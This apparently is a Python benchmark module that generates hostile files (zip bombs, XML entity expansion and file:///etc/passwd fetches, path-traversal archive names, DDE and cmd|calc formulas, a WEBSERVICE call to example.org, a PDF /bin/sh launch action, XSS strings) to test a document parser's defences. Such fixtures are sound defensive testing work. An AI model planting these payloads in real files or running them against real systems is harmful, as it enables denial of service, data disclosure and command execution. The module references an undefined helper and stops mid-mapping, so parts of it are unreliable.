"""A folder in; files that would harm a careless reader written into it: bombs, loops, lies about sizes, markup in names.

python -m benchmarks.hostile OUT — the files are made anew each time, none is kept in the repository. Nothing in them works
on a machine: links lead to example domains, paths to files that do not exist.
"""

import io
import os
import struct
import sys
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from gzip import compress
from hashlib import md5
from itertools import cycle
from pathlib import Path
from typing import Any

from benchmarks.corpus import FORMATS, draw_report
from benchmarks.corpus.formats import file_bytes

Make = Callable[[], bytes]

MEGABYTE = 1024 * 1024
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TITLE = "石桥镇人民政府2023年政府信息公开工作年度报告"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&"
HIDDEN = "&lt;script&gt;alert(1)&lt;/script&gt;" + TITLE
MARKS = ("一", "1", "（", " ", "2023年1月1日至", "公开1条、", "1,234", "收到申请", "\t")
PARAGRAPH = f"<w:p><w:r><w:t>{TITLE}</w:t></w:r></w:p>"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)) + "]>"
FETCH = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'


def zipped(parts: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def word(body: str, head: str = "", /, **parts: Any) -> bytes:
    """A Word document with this body."""
    return zipped({"word/document.xml": f"{head}<w:document {W}><w:body>{body}</w:body></w:document>", **parts})


def sheet(data: str, /, **parts: Any) -> bytes:
    """A workbook with one sheet of these rows."""
    return zipped(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{R}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook {SHEET} xmlns:r="{R}"><sheets><sheet name="&lt;b&gt;" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{R}/worksheet" '
            f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{R}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f"<worksheet {SHEET}>{data}</worksheet>",
            "xl/sharedStrings.xml": f"<sst {SHEET}/>",
            **parts,
        }
    )


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.5\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n<</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A PDF stream object."""
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """A grey PNG that claims this size."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    body = zlib.compress(data or bytes(4096))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


@cache
def sound(name: str) -> bytes:
    """A sound report in a format of the corpus."""
    from random import Random

    return file_bytes(draw_report(Random(11), 2023, key="h"), name)


@cache
def _bomb(member: str, *others: tuple[str, str]) -> bytes:
    """A ZIP with one member of 250 MB of nothing."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in others:
            archive.writestr(name, content)
        with archive.open(member, "w", force_zip64=True) as stream_to:
            for _ in range(250):
                stream_to.write(bytes(MEGABYTE))
    return buffer.getvalue()


def _nested_zip(depth: int) -> bytes:
    data = zipped({"a.txt": TITLE})
    for _ in range(depth):
        data = zipped({"inner.zip": data})
    return data


def _branching_zip() -> bytes:
    """Sixteen archives of sixteen archives of ten megabytes each: 2.5 GB from a few kilobytes."""
    data = zipped({"a.txt": b"0" * 10 * MEGABYTE})
    for _ in range(2):
        data = zipped({f"{at}.zip": data for at in range(16)})
    return data


def _overlapping_zip() -> bytes:
    """Every entry of the directory points to the same compressed member."""
    whole = zipped({"a.txt": b"0" * 20 * MEGABYTE})
    start, end = whole.index(b"PK\x01\x02"), whole.index(b"PK\x05\x06")
    body, entry = whole[:start], whole[start:end]
    entries = b"".join(entry.replace(b"a.txt", b"%05d" % at) for at in range(400))
    return body + entries + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 400, 400, len(entries), len(body), 0)


def _lying_zip() -> bytes:
    """The directory declares ten bytes for what inflates to 300 MB."""
    whole = bytearray(_bomb("word/document.xml"))
    at = whole.index(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<L", 10)
    return bytes(whole)


def _linking_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("报告.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _protected_zip() -> bytes:
    whole = bytearray(zipped({"a.txt": TITLE}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.index(signature) + offset] |= 1
    return bytes(whole)


def _odd_method_zip() -> bytes:
    whole = bytearray(zipped({"a.txt": TITLE}))
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        whole[whole.index(signature) + offset] = 99
    return bytes(whole)


def _mail(name: str, content: bytes) -> bytes:
    return (
        f'From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\n'
        f'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{b64encode(content).decode()}\r\n--x--\r\n"
    ).encode()


def _deep_mail() -> bytes:
    head = "From: a@example.org\r\nMIME-Version: 1.0\r\n"
    return (head + "".join(f'Content-Type: multipart/mixed; boundary="b{at}"\r\n\r\n--b{at}\r\n' for at in range(3_000))).encode()


def _protected_pdf() -> bytes:
    """Encrypted with a user password (standard handler, revision 2)."""
    padding = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")

    def arcfour(key: bytes, data: bytes) -> bytes:
        box, at = list(range(256)), 0
        for own, byte in zip(range(256), cycle(key), strict=False):
            at = (at + box[own] + byte) % 256
            box[own], box[at] = box[at], box[own]
        out, one, two = bytearray(), 0, 0
        for byte in data:
            one = (one + 1) % 256
            two = (two + box[one]) % 256
            box[one], box[two] = box[two], box[one]
            out.append(byte ^ box[(box[one] + box[two]) % 256])
        return bytes(out)

    password = (b"secret" + padding)[:32]
    owner = arcfour(md5(password).digest()[:5], password)
    key = md5(password + owner + struct.pack("<i", -4) + b"0" * 16).digest()[:5]
    user = arcfour(key, padding)
    entry = b"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>/ID[<%s><%s>]" % (
        owner.hex().encode(), user.hex().encode(), (b"0" * 16).hex().encode(), (b"0" * 16).hex().encode(),
    )  # fmt: skip
    return pdf(CATALOGUE, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>", stream(b"BT ET"), trailer=entry)


def _many_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % (at + 3) for at in range(100_000))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    return pdf(CATALOGUE, b"<</Type/Pages/Kids[%s]/Count 100000>>" % kids, *[page] * 100_000)


def _layered_pdf() -> bytes:
    data = bytes(30 * MEGABYTE)
    for _ in range(3):
        data = zlib.compress(data, 9)
    content = stream(data, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")
    return pdf(CATALOGUE, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>", content)


def _huge_image_pdf() -> bytes:
    image = stream(
        zlib.compress(bytes(10_000)),
        b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode",
    )
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>"
    return pdf(CATALOGUE, PAGES, page, stream(b"q 595 0 0 842 0 0 cm /I Do Q"), image)


def _many_sheets(count: int) -> bytes:
    """A workbook of very many sheets, all of them one and the same part."""
    listed = "".join(f'<sheet name="s{at}" sheetId="{at + 1}" r:id="r1"/>' for at in range(count))
    book = f'<workbook {SHEET} xmlns:r="{R}"><sheets>{listed}</sheets></workbook>'
    return sheet('<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>', **{"xl/workbook.xml": book})


def _cut(data: bytes) -> bytes:
    return data[: len(data) * 2 // 5]


def _wordml(head: str) -> bytes:
    namespace = "http://schemas.microsoft.com/office/word/2003/wordml"
    return (
        f'<?xml version="1.0"?><?mso-application progid="Word.Document"?>{head}<w:wordDocument xmlns:w="{namespace}"><w:body>'
        f"<w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:wordDocument>"
    ).encode()


def _report_page(title: str, extra: str = "") -> bytes:
    return f"<html><head><title>{title}</title></head><body><h1>{title}</h1><p>一、总体情况</p><p>本镇认真贯彻。</p>{extra}</body></html>".encode()


def _nested_mail(depth: int) -> bytes:
    """A message within a message, so many deep, with a report at the bottom."""
    data = _mail("报告.txt", TITLE.encode())
    for at in range(depth):
        data = (
            (
                f'From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="n{at}"\r\n\r\n--n{at}\r\n'
                "Content-Type: message/rfc822\r\n\r\n"
            ).encode()
            + data
            + f"\r\n--n{at}--\r\n".encode()
        )
    return data


def _looping_forms() -> bytes:
    """A page that draws a form which draws itself, and one that doubles at each of twenty levels."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</F 5 0 R/G 6 0 R>>>>>>"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]"
    itself = stream(b"/F Do", form + b"/Resources<</XObject<</F 5 0 R>>>>")
    doubling = [stream(b"/G Do /G Do", form + b"/Resources<</XObject<</G %d 0 R>>>>" % (at + 7)) for at in range(20)]
    return pdf(CATALOGUE, PAGES, page, stream(b"/F Do /G Do"), itself, *doubling, stream(b"0 0 m 9 9 l S", form))


def _ofd(location: str, pages: int = 1, content: str = "") -> bytes:
    """An OFD whose document and pages lie where it is told."""
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    listed = "".join(f'<ofd:Page ID="{at + 1}" BaseLoc="{location}"/>' for at in range(pages))
    return zipped(
        {
            "OFD.xml": f"<ofd:OFD {space}><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
            "Doc_0/Document.xml": f"<ofd:Document {space}><ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox>"
            f"</ofd:PageArea></ofd:CommonData><ofd:Pages>{listed}</ofd:Pages></ofd:Document>",
            "Doc_0/Pages/Page_0/Content.xml": f"<ofd:Page {space}><ofd:Content><ofd:Layer>{content}</ofd:Layer></ofd:Content></ofd:Page>",
        }
    )


def _relations(name: str, kind: str, target: str) -> dict[str, str]:
    """A part's relation to something outside of the file."""
    one = f'<Relationship Id="x" Target="{target}" TargetMode="External" Type="{R}/{kind}"/>'
    return {name: f'<Relationships xmlns="{RELATIONS}">{one}</Relationships>'}


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: what is in it and how an audit may take it. `says`: words of the reason, for what is refused."""

    make: Make
    status: tuple[str, ...]
    says: str = ""


def bad(make: Make, says: str = "") -> Hostile:
    return Hostile(make, ("unreadable",), says)


def odd(make: Make) -> Hostile:
    """Harmless once read with care: whatever is found in it, it is found."""
    return Hostile(make, ("read", "not_a_report"))


def any_way(make: Make) -> Hostile:
    """Depends on what is installed, or is as rightly refused as read."""
    return Hostile(make, ("read", "not_a_report", "unreadable", "empty"))


FILES: Mapping[str, Hostile] = {
    # archives
    "zip-bomb.docx": bad(lambda: _bomb("word/document.xml"), "超过"),
    "zip-bomb.zip": bad(lambda: _bomb("a.txt"), "超过"),
    "zip-nested.zip": bad(lambda: _nested_zip(8), "嵌套"),
    "zip-branching.zip": bad(_branching_zip),
    "zip-overlapping.zip": bad(_overlapping_zip),
    "zip-lying.docx": bad(_lying_zip),
    "zip-members.zip": bad(lambda: zipped({f"{at}.txt": "x" for at in range(6_000)}), "超过"),
    "zip-climbing.zip": odd(
        lambda: zipped({"../../../evil.txt": TITLE, "/evil.html": _report_page(TITLE), "..\\..\\evil.txt": TITLE, "C:\\evil.txt": TITLE})
    ),
    "zip-link.zip": odd(_linking_zip),
    "zip-protected.zip": bad(_protected_zip, "密码"),
    "zip-method.zip": bad(_odd_method_zip),
    "zip-cut.zip": bad(lambda: _cut(zipped({"a.txt": os.urandom(9_000)}))),
    "zip-markup.zip": odd(lambda: zipped({f"{MARKUP}/{MARKUP}.txt": TITLE, "新\n行.txt": TITLE})),
    "zip-long-name.zip": odd(lambda: zipped({"长" * 9_000 + ".txt": TITLE})),
    "mail-climbing.eml": odd(lambda: _mail("../../../evil.txt", TITLE.encode())),
    "mail-deep.eml": any_way(_deep_mail),
    "mail-bomb.eml": bad(lambda: _mail("a.zip", _branching_zip())),
    "zip-empty.zip": any_way(lambda: zipped({})),
    "zip-in-pdf.pdf": any_way(lambda: pdf(CATALOGUE, PAGES, b"<</Type/Page/Parent 2 0 R>>") + zipped({"a.txt": TITLE})),
    "archive.rar": bad(lambda: b"Rar!\x1a\x07\x01\x00" + bytes(900), "RAR"),
    "archive.7z": bad(lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(900), "7z"),
    "rar.docx": bad(lambda: b"Rar!\x1a\x07\x01\x00" + bytes(900), "RAR"),
    "archive.gz": bad(lambda: compress(TITLE.encode() * 900, mtime=0)),
    "mail-nested.eml": any_way(lambda: _nested_mail(50)),
    "mail-external.eml": any_way(
        lambda: (
            b'From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type="local-file"; name="/etc/passwd"\r\n\r\nx'
        )
    ),
    # Word
    "word-template.docx": odd(
        lambda: word(
            PARAGRAPH,
            **{"word/settings.xml": f'<w:settings {W} xmlns:r="{R}"><w:attachedTemplate r:id="x"/></w:settings>'},
            **_relations("word/_rels/settings.xml.rels", "attachedTemplate", "http://example.org/evil.dotm"),
        )
    ),
    "word-fields.docx": odd(
        lambda: word(
            PARAGRAPH + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr="INCLUDETEXT &quot;/etc/passwd&quot;"/></w:p>'
        )
    ),
    "word-nul.docx": any_way(lambda: bytes(90_000)),
    "word-formulas.docx": any_way(
        lambda: word(
            PARAGRAPH
            + "<w:p>"
            + '<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:num>' * 3_000
            + "</m:num></m:f>" * 3_000
            + "</w:p>"
        )
    ),
    "xml-laughs.docx": bad(lambda: word("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", LAUGHS)),
    "xml-fetch.docx": bad(lambda: word("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", FETCH), "实体"),
    "word-outside.docx": odd(
        lambda: word(
            PARAGRAPH + f'<w:altChunk r:id="x" xmlns:r="{R}"/>',
            **{
                "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="x" Target="http://example.org/evil.html" '
                f'TargetMode="External" Type="{R}/aFChunk"/></Relationships>'
            },
        )
    ),
    "word-nested-tables.docx": bad(lambda: word("<w:tbl><w:tr><w:tc>" * 300 + PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 300)),
    "word-nested-frames.docx": any_way(lambda: word("<w:sdt><w:sdtContent>" * 4_000 + PARAGRAPH + "</w:sdtContent></w:sdt>" * 4_000)),
    "word-wide-cells.docx": any_way(
        lambda: word(PARAGRAPH + '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>')
    ),
    "word-paragraphs.docx": bad(lambda: word("<w:p><w:r><w:t>字</w:t></w:r></w:p>" * 120_000), "超过"),
    "word-macros.docm": odd(lambda: word(PARAGRAPH, **{"word/vbaProject.bin": COMPOUND + bytes(9_000)})),
    "word-cut.docx": bad(lambda: _cut(sound("docx"))),
    "word-no-text.docx": any_way(lambda: zipped({"word/styles.xml": "<x/>"})),
    "word-bad-utf8.docx": bad(lambda: zipped({"word/document.xml": word_bytes(b"\xff\xfe\xfa")})),
    "word-markup.docx": odd(lambda: word(f"<w:p><w:r><w:t>{HIDDEN}</w:t></w:r></w:p>")),
    "word-protected.docx": bad(lambda: COMPOUND + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(900), "密码"),
    # pages
    "page-100-megabytes.html": bad(lambda: b"<p>" + b"x" * 100 * MEGABYTE, "上限"),
    "page-long.html": any_way(lambda: b"<p>" + "字。".encode() * 4 * MEGABYTE),
    "page-nested-tables.html": bad(lambda: b"<table><tr><td>x" * 5_000, "嵌套"),
    "page-nested-elements.html": any_way(lambda: b"<div><span>" * 60_000 + TITLE.encode()),
    "page-spans.html": any_way(lambda: _report_page(TITLE, "<table><tr><td colspan=99999999 rowspan=99999999>1<td>2</table>")),
    "page-stairs.html": bad(
        lambda: ("<table>" + "".join(f"<tr><td rowspan=65534 colspan={at}>{at}<td>1" for at in range(1, 400)) + "</table>").encode(), "格"
    ),
    "page-active.html": odd(
        lambda: _report_page(
            TITLE, '<meta http-equiv=refresh content="0;url=http://example.org"><iframe src="file:///etc/passwd"></iframe><script>x()</script>'
        )
    ),
    "page-markup.html": odd(lambda: _report_page("&lt;img src=x onerror=alert(1)&gt;镇人民政府2023年政府信息公开工作年度报告")),
    "page-direction.html": any_way(lambda: _report_page("\u202e石桥镇\u0000\u0007人民政府2023年政府信息公开工作年度报告\ufeff")),
    "page-entities.html": any_way(lambda: _report_page(TITLE, "&amp;" * 500_000)),
    "page-laughs.html": odd(lambda: LAUGHS.encode() + _report_page(TITLE, "&j;")),
    "page-bad-utf8.html": odd(lambda: _report_page(TITLE).replace("本镇".encode(), b"\xff\xc0\xaf\xed\xa0\x80") + "正文".encode() * 200),
    "page-cut.html": any_way(lambda: _cut(sound("html"))),
    "page-million-columns.html": any_way(
        lambda: _report_page(TITLE, "<table>" + "<tr><td colspan=1000000>1<td colspan=1000000>2" * 200 + "</table>")
    ),
    "page-drawing.html": odd(
        lambda: _report_page(
            TITLE,
            "<svg>"
            + "".join(f'<g id="s{at}">{f"<use href=#s{at - 1} />" * 10}</g>' for at in range(1, 30))
            + '<script>alert(1)</script><foreignObject><iframe src="file:///etc/passwd"></iframe></foreignObject></svg>',
        )
    ),
    "page-formula.html": any_way(lambda: _report_page(TITLE, "<math>" + "<mrow><msup>" * 20_000 + "x" + "</msup></mrow>" * 20_000 + "</math>")),
    "page-styles.html": any_way(
        lambda: _report_page(
            TITLE, "<style>" + "".join(f".c{at}{{display:none}}" for at in range(60_000)) + "</style>" + "<p class=c1 style=display:none>x" * 9_000
        )
    ),
    "page-attributes.html": any_way(lambda: _report_page(TITLE, "<p " + " ".join(f"a{at}=1" for at in range(120_000)) + ">x</p>")),
    "page-comments.html": any_way(lambda: _report_page(TITLE, "<!--" * 200_000)),
    # text
    "text-wide-unmarked.txt": odd(lambda: (TITLE + "\n一、总体情况\n本镇认真贯彻。\n" * 20).encode("utf-16-le")),
    "text-zeros.txt": any_way(lambda: TITLE.encode() + bytes(9_000)),
    "text-controls.txt": any_way(lambda: (TITLE + "\x1b[2J\x1b]0;evil\x07\x08" * 200).encode()),
    "text-one-line.txt": any_way(lambda: TITLE.encode() + b"\n" + "字".encode() * 5 * MEGABYTE),
    "text-lines.txt": bad(lambda: b"x\n" * 2_000_000, "行"),
    "text-fields.txt": bad(lambda: b"1\t" * 3_000_000),
    "text-backtracking.txt": any_way(lambda: "\n".join([TITLE, "一、总体情况", *(mark * 40_000 for mark in MARKS)]).encode()),
    "text-numbers.txt": any_way(lambda: f"{TITLE}\n一、总体情况\n收到申请{'9' * 100_000}件，其中{'九' * 100_000}件。\n".encode()),
    "text-wide.txt": any_way(lambda: TITLE.encode("utf-16") + b"\x00"),
    "marks.md": any_way(lambda: "\n".join(["# " + TITLE, *(mark * 30_000 for mark in ("**", "[", "![", "> ", "__", "|", "`"))]).encode()),
    "marks-cut.md": any_way(lambda: _cut(sound("md"))),
    # workbooks
    "sheet-far.xlsx": bad(
        lambda: sheet(
            '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
            '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        ),
        "过大",
    ),
    "sheet-dimension.xlsx": any_way(lambda: sheet('<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>')),
    "sheet-strings.xlsx": bad(
        lambda: sheet(
            '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>',
            **{"xl/sharedStrings.xml": f"<sst {SHEET}><si><t>".encode() + b"x" * 210 * MEGABYTE + b"</t></si></sst>"},
        ),
        "超过",
    ),
    "sheet-laughs.xlsx": any_way(
        lambda: sheet(
            '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>',
            **{"xl/sharedStrings.xml": f"{LAUGHS}<sst {SHEET}><si><t>&j;</t></si></sst>"},
        )
    ),
    "sheet-merged.xlsx": any_way(
        lambda: sheet(
            '<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row></sheetData><mergeCells>'
            + '<mergeCell ref="A1:XFD1048576"/>' * 20_000
            + "</mergeCells>"
        )
    ),
    "sheet-commands.xlsx": odd(
        lambda: sheet(
            f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{TITLE}</t></is></c><c r="B1"><f>cmd|\'/c calc\'!A0</f><v>1</v></c>'
            '<c r="C1"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>2</v></c></row></sheetData>'
        )
    ),
    "sheet-outside.xlsx": any_way(
        lambda: sheet(
            '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>',
            **_relations("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "file:///etc/passwd"),
        )
    ),
    "sheet-protected.xlsx": bad(lambda: COMPOUND + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(900), "密码"),
    "sheet-many.xlsx": any_way(lambda: _many_sheets(3_000)),
    "sheet-cut.xlsx": bad(lambda: _cut(sound("xlsx"))),
    "sheet-old.xls": bad(lambda: COMPOUND + bytes(504) + "Workbook".encode("utf-16-le") + bytes(900)),
    # PDF
    "pdf-loop.pdf": bad(lambda: pdf(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>")),
    "pdf-forms.pdf": any_way(_looping_forms),
    "pdf-nothing.pdf": Hostile(lambda: b"", ("empty",)),
    "pdf-nul.pdf": any_way(lambda: b"%PDF-1.7\n" + bytes(90_000)),
    "pdf-actions.pdf": any_way(
        lambda: pdf(
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>/AA<</WC<</S/URI/URI(http://example.org)>>>>>>",
            PAGES,
            b"<</Type/Page/Parent 2 0 R>>",
        )
    ),
    "pdf-saved-states.pdf": any_way(
        lambda: pdf(CATALOGUE, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>", stream(b"q " * 900_000))
    ),
    "pdf-arrays.pdf": any_way(
        lambda: pdf(b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 90_000 + b"]" * 90_000 + b">>", PAGES, b"<</Type/Page/Parent 2 0 R>>")
    ),
    "pdf-pages.pdf": bad(_many_pages),
    "pdf-layers.pdf": any_way(_layered_pdf),
    "pdf-protected.pdf": bad(_protected_pdf, "密码"),
    "pdf-huge-page.pdf": any_way(lambda: pdf(CATALOGUE, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]>>")),
    "pdf-huge-image.pdf": any_way(_huge_image_pdf),
    "pdf-loop-table.pdf": any_way(lambda: pdf(CATALOGUE, PAGES, b"<</Type/Page/Parent 2 0 R>>", trailer=b"/Prev 9")),
    "pdf-cut.pdf": any_way(lambda: _cut(_huge_image_pdf())),
    "pdf-script.pdf": any_way(
        lambda: pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>", PAGES, b"<</Type/Page/Parent 2 0 R>>")
    ),
    # pictures
    "picture-huge.png": bad(lambda: png(60_000, 60_000)),
    "picture-flat.png": bad(lambda: png(2_000_000_000, 1)),
    "picture-cut.png": bad(lambda: png(900, 900)[:60]),
    "picture-cut.jpg": bad(lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + bytes(40)),
    "picture-loop.tif": bad(lambda: b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00"),
    "picture-huge.bmp": bad(lambda: b"BM" + struct.pack("<IIIIiiHHIIiiII", 200, 0, 54, 40, 100_000, 100_000, 1, 24, 0, 0, 0, 0, 0, 0)),
    # other
    "ofd-laughs.ofd": bad(lambda: zipped({"OFD.xml": f"{LAUGHS}<OFD>&j;</OFD>"})),
    "ofd-cut.ofd": bad(lambda: _cut(zipped({"OFD.xml": os.urandom(9_000)}))),
    "ofd-climbing.ofd": any_way(lambda: _ofd("../../../../etc/passwd")),
    "ofd-pages.ofd": any_way(lambda: _ofd("Pages/Page_0/Content.xml", 100_000)),
    "ofd-letters.ofd": any_way(
        lambda: _ofd(
            "Pages/Page_0/Content.xml",
            content='<ofd:TextObject ID="9" Boundary="0 0 1e308 -1e308" Font="1" Size="1e308"><ofd:TextCode X="1e308" Y="nan" DeltaX="g 99999999 1">'
            "字</ofd:TextCode></ofd:TextObject>" * 500,
        )
    ),
    "ofd-bomb.ofd": bad(lambda: _bomb("OFD.xml")),
    "doc-noise.doc": bad(lambda: COMPOUND + bytes(504) + "WordDocument".encode("utf-16-le") + os.urandom(9_000)),
    "rtf-nested.rtf": any_way(lambda: b"{\\rtf1" + b"{" * 90_000 + b"x" + b"}" * 90_000 + b"}"),
    "rtf-object.rtf": any_way(
        lambda: (
            b"{\\rtf1{\\object\\objocx{\\*\\objdata "
            + b"d0cf11e0" * 9_000
            + b'}}{\\field{\\*\\fldinst INCLUDEPICTURE "file:///etc/passwd"}}\\bin999999999 x}'
        )
    ),
    "picture.svg": any_way(lambda: f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>{TITLE}</text></svg>'.encode()),
    "odt-bomb.odt": any_way(lambda: _bomb("content.xml", ("mimetype", "application/vnd.oasis.opendocument.text"))),
    "wordml-fetch.xml": any_way(lambda: _wordml(FETCH)),
    # one thing under the name of another
    "word.pdf": Hostile(lambda: sound("docx"), ("read",)),
    "page.doc": Hostile(lambda: sound("html"), ("read",)),
    "text.docx": Hostile(lambda: sound("text-tab"), ("read",)),
    "sheet.docx": Hostile(lambda: sound("xlsx"), ("read",)),
    "word.xlsx": Hostile(lambda: sound("docx"), ("read",)),
    "word.txt": Hostile(lambda: sound("docx"), ("read",)),
    "picture.docx": bad(lambda: png(60_000, 60_000)),
    "archive.docx": odd(lambda: zipped({"a.txt": TITLE})),
    "program.docx": bad(lambda: b"MZ" + os.urandom(900), "程序"),
    "noise.docx": bad(lambda: os.urandom(20_000)),
    "nothing.docx": Hostile(lambda: b"", ("empty",)),
    "blank.docx": Hostile(lambda: b" \r\n" * 900, ("empty",)),
    # names
    "名" * 80 + ".txt": any_way(lambda: TITLE.encode()),
